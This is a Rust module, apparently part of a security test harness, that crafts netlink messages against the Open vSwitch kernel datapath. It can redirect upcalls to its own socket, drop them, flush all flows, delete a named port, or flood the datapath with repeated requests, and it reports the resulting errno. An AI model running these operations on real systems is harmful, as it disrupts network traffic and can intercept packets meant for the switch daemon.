//! What an unprivileged user, or somebody else's program with privileges, can send to the datapath.

use anyhow::Result;

use super::netlink::{attribute, datapath, family_id, message, outcome, Socket, OVS_FLOW_VERSION};

/// What to try.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// Redirect the datapath's upcalls to the own socket (OVS_DP_CMD_SET with OVS_DP_ATTR_PER_CPU_PIDS).
    Bind,
    /// Redirect them to nobody (port id 0).
    Unbind,
    /// Flush all flows (OVS_FLOW_CMD_DEL without a key).
    Flush,
    /// Delete the port of [`PORT`] by its name (OVS_VPORT_CMD_DEL), as Open vSwitch never does.
    DeletePort,
    /// Ask for the datapath 80 times in one send (OVS_DP_CMD_GET).
    Crowd,
}

// linux/openvswitch.h
const OVS_DATAPATH_VERSION: u8 = 2;
const OVS_DP_CMD_SET: u8 = 4;
const OVS_DP_ATTR_USER_FEATURES: u16 = 5;
const OVS_DP_ATTR_PER_CPU_PIDS: u16 = 8;
const OVS_DP_F_DISPATCH_UPCALL_PER_CPU: u32 = 1 << 3;
const OVS_FLOW_CMD_DEL: u8 = 2;
const OVS_DP_CMD_GET: u8 = 3;
const OVS_VPORT_VERSION: u8 = 1;
const OVS_VPORT_CMD_DEL: u8 = 2;
const OVS_VPORT_ATTR_NAME: u16 = 3;

/// The port of [`Attack::DeletePort`].
pub const PORT: &str = "v-told";

/// Tries it on the datapath `ovs-system`; the errno that came back, 0 for success.
pub fn attempt(attack: Attack) -> Result<i32> {
    let mut socket = Socket::open()?;
    let mut body = datapath();
    let bytes = match attack {
        Attack::Bind | Attack::Unbind => {
            let family = family_id(&mut socket, "ovs_datapath")?;
            let port = if attack == Attack::Bind { socket.port_id()? } else { 0 }.to_ne_bytes();
            body.extend(attribute(OVS_DP_ATTR_USER_FEATURES, &OVS_DP_F_DISPATCH_UPCALL_PER_CPU.to_ne_bytes()));
            body.extend(attribute(OVS_DP_ATTR_PER_CPU_PIDS, &[port, port].concat()));
            message(family, OVS_DP_CMD_SET, OVS_DATAPATH_VERSION, &body)
        }
        Attack::Flush => {
            let family = family_id(&mut socket, "ovs_flow")?;
            message(family, OVS_FLOW_CMD_DEL, OVS_FLOW_VERSION, &body)
        }
        Attack::DeletePort => {
            let family = family_id(&mut socket, "ovs_vport")?;
            body.extend(attribute(OVS_VPORT_ATTR_NAME, &[PORT.as_bytes(), &[0]].concat()));
            message(family, OVS_VPORT_CMD_DEL, OVS_VPORT_VERSION, &body)
        }
        Attack::Crowd => {
            let family = family_id(&mut socket, "ovs_datapath")?;
            message(family, OVS_DP_CMD_GET, OVS_DATAPATH_VERSION, &body).repeat(80)
        }
    };
    outcome(&mut socket, &bytes)
}
